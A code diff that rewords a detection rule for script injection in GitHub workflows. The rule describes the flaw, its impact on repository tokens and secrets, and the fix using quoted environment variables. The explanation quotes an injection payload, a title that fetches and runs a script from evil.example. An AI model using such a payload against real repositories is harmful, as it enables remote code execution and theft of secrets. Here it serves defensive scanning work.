@@ -29,14 +29,14 @@ export const workflowScriptInjection = defineConfigurationRule({
     owaspMcp: ['MCP04:2025', 'MCP05:2025'],
     safeMcp: ['SAFE-T1002'],
     what:
-      'A workflow inserts a title, text, or branch name of an untrusted user into a script with `${{ … }}`, directly ' +
-      'or through `env`. GitHub inserts the value before the script is parsed.',
+      'A workflow uses `${{ … }}` to insert a title, text, or branch name from an untrusted user into a script, ' +
+      'directly or through `env`. GitHub inserts the value before the script is parsed.',
     why:
-      'A title such as `"; curl evil.example | sh; "` becomes commands. They run with the token and, for most of ' +
-      'these events, with the secrets of the repository.',
+      'A title such as `"; curl evil.example | sh; "` becomes shell commands. They run with the repository\'s ' +
+      'token and, for most of these events, with its secrets.',
     remediation:
-      'Pass the value in `env:` and use the quoted shell variable: `env: { TITLE: ${{ github.event.issue.title }} }` ' +
-      'and `"$TITLE"`.',
+      'Pass the value through `env:`, and use the quoted shell variable: `env: { TITLE: ${{ ' +
+      'github.event.issue.title }} }` and `"$TITLE"`.',
     examples: {
       bad: [
         exampleFiles({
@@ -75,13 +75,12 @@ export const workflowScriptInjection = defineConfigurationRule({
         ? `inserts \`${input}\` into a script before the script is parsed`
         : `runs the value of the variable \`${input}\` as code`
     const choice =
-      author === 'anyone'
-        ? 'Anyone can choose this value.'
-        : 'Authors of pull requests and commits can choose this value.'
+      author === 'anyone' ? 'Anyone can choose this value.' : 'Pull request and commit authors can choose this value.'
     const consequence =
       privilegedTriggers.length > 0
-        ? `On ${privilegedTriggers.join(' and ')}, injected commands run with the token and secrets of the repository.`
-        : 'Injected commands run with the permissions of this run.'
+        ? `On ${privilegedTriggers.join(' and ')}, injected commands run with access to the repository's token and ` +
+          'secrets.'
+        : 'Injected commands run with the permissions of this workflow run.'
     return {
       title: `Script injection through ${input} in ${location?.path ?? 'a workflow'}`,
       message: `The job "${job}" ${injected}. ${choice} ${consequence}`,
